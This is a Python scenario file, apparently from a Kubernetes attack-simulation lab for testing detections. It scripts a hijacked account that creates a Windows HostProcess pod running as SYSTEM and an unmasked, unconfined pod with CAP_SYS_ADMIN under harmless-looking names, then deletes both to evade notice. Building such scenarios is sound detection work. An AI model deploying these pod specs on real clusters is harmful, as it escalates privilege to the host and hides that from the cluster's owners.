"""Pods that leave their box without the word privileged: a process of a Windows host, and a container unmasked."""

from lab.manifests import pod
from lab.story import Scenario, Stage

_PODS = "/api/v1/namespaces/monitoring/pods"


def _play(stage: Stage) -> None:
    thief = stage.hijack("carol")
    windows = stage.word("updates", "patches")
    options = {"hostProcess": True, "runAsUserName": "NT AUTHORITY\\SYSTEM"}
    body = pod(
        windows,
        "registry.example.com/tools/shell:ltsc2022",
        os={"name": "windows"},
        nodeSelector={"kubernetes.io/os": "windows"},
        hostNetwork=True,
        securityContext={"windowsOptions": options},
    )
    with stage.step("create a process of the Windows host", thief, "privilege-escalation", ("D01", "D06", "C19")):
        stage.must(stage.create(thief, body, "monitoring"))
    unmasked = stage.word("probe", "metrics")
    body = pod(unmasked, "alpine:3.20", hostUsers=False)
    body["spec"]["containers"][0]["securityContext"] = {
        "procMount": "Unmasked",
        "seccompProfile": {"type": "Unconfined"},
        "appArmorProfile": {"type": "Unconfined"},
        "capabilities": {"add": ["CAP_SYS_ADMIN"]},
    }
    with stage.step("create a pod without its masks", thief, "privilege-escalation", ("D09", "C19")):
        stage.must(stage.create(thief, body, "monitoring"))
    stage.pause()
    with stage.step("delete them", thief, "defense-evasion", ("N12", "I04")):
        for name in (windows, unmasked):
            stage.must(thief.delete(f"{_PODS}/{name}"))


SCENARIO = Scenario(
    "unmasked-pods",
    "Pods that leave their box without the word privileged",
    "attack",
    "reach the host by fields that few rules read",
    ("T1610", "T1611"),
    _play,
)
